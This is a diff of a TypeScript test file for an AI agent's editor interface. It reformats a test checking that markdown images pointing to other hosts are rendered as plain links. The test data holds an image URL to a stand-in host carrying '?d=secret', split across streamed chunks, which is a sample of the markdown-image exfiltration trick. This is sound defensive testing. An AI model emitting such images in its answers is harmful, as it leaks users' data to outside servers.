@@ -86,21 +86,18 @@ describe("images of an answer", () => {
 })
 
 describe("an editor", () => {
-  it.live(
-    "gets an answer without images of other hosts, live and when its session is loaded",
-    () =>
-      Effect.gen(function* () {
-        const text = ["see ![the pl", "an](htt", "ps://e.example/?d=secret) and ![here](a.png)", "!"]
-        const { ask, cwd, sessionId, textOf, updates } = yield* world({ work: [{ text }] }, {})
-        yield* Effect.promise(async () => {
-          const shown = "see [the plan](https://e.example/?d=secret) and ![here](a.png)!"
-          await ask("session/prompt", { sessionId, prompt: acpEditor.say("work") })
-          assert.strictEqual(textOf(sessionId), shown)
-          updates.length = 0
-          await ask("session/load", { sessionId, cwd, mcpServers: [] })
-          assert.strictEqual(textOf(sessionId), shown)
-        })
-      }),
-    { timeout: 60_000 }
+  it.live("gets an answer without images of other hosts, live and when its session is loaded", () =>
+    Effect.gen(function* () {
+      const text = ["see ![the pl", "an](htt", "ps://e.example/?d=secret) and ![here](a.png)", "!"]
+      const { ask, cwd, sessionId, textOf, updates } = yield* world({ work: [{ text }] }, {})
+      yield* Effect.promise(async () => {
+        const shown = "see [the plan](https://e.example/?d=secret) and ![here](a.png)!"
+        await ask("session/prompt", { sessionId, prompt: acpEditor.say("work") })
+        assert.strictEqual(textOf(sessionId), shown)
+        updates.length = 0
+        await ask("session/load", { sessionId, cwd, mcpServers: [] })
+        assert.strictEqual(textOf(sessionId), shown)
+      })
+    })
   )
 })
